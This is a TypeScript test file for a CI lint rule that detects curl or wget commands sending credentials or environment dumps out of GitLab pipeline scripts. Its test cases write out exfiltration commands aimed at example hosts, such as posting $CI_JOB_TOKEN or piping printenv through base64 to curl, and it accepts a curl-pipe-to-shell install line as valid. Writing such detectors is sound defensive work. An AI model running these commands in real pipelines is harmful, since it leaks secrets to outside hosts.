import { testFileRule } from '../../testing/test-file-rule.ts'
import rule, { docs } from './ci-suspicious-curl.ts'

const script = (line: string): string => `ferry:\n  script:\n    - |\n      ${line}\n`

testFileRule(rule, docs, {
  valid: [
    script('curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"'),
    script('curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://gitlab.example.com/api/v4/projects'),
    script('curl -u "x:$CI_JOB_TOKEN" "$CI_SERVER_URL/api"'),
    script('curl -d "token=$CI_JOB_TOKEN" "$WEBHOOK"'),
    script('curl -d "job=$CI_JOB_ID" https://hooks.example.net/x'),
    script('curl -fsSL https://example.net/install.sh | sh'),
    script('env | sort'),
    script('echo $CI_JOB_TOKEN https://example.net'),
    script('curl -d "$CI_JOB_TOKEN" http://localhost:8000'),
    script('env -i A=1 curl https://example.net/x'),
  ],
  invalid: [
    {
      text: script('curl -d token=$CI_JOB_TOKEN https://hooks.example.net/x'),
      reports: [
        {
          messageId: 'credential',
          on: 'curl -d token=$CI_JOB_TOKEN https://hooks.example.net/x',
          confidence: 'likely',
        },
      ],
    },
    {
      text: script('curl "https://example.net/?p=$CI_REGISTRY_PASSWORD"'),
      reports: [{ messageId: 'credential', on: 'curl "https://example.net/?p=$CI_REGISTRY_PASSWORD"' }],
    },
    {
      text: script('wget -q --post-data "t=${CI_DEPLOY_PASSWORD}" https://example.net/x'),
      reports: [
        {
          messageId: 'credential',
          on: 'wget -q --post-data "t=${CI_DEPLOY_PASSWORD}" https://example.net/x',
        },
      ],
    },
    {
      text: script('env | curl -d @- https://example.net/x'),
      reports: [{ messageId: 'environment', on: 'curl -d @- https://example.net/x' }],
    },
    {
      text: script('printenv | base64 | curl --data-binary @- https://example.net/x'),
      reports: [{ messageId: 'environment', on: 'curl --data-binary @- https://example.net/x' }],
    },
    {
      text: script('curl -d "$(env)" https://example.net/x'),
      reports: [{ messageId: 'environment', on: 'curl -d "$(env)" https://example.net/x' }],
    },
  ],
})
